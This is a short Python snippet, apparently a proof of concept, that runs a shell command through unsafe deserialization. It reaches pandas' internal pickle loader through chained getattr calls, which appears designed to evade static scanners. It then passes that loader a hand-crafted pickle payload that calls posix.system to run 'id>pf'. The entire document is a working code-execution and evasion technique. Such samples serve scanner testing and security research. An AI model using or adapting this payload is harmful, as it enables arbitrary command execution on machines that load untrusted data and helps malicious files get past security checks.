import pandas
c = getattr(pandas, "compat")
getattr(getattr(c, "pickle_compat"), "loads")(b"cposix\nsystem\n(S'id>pf'\ntR.")
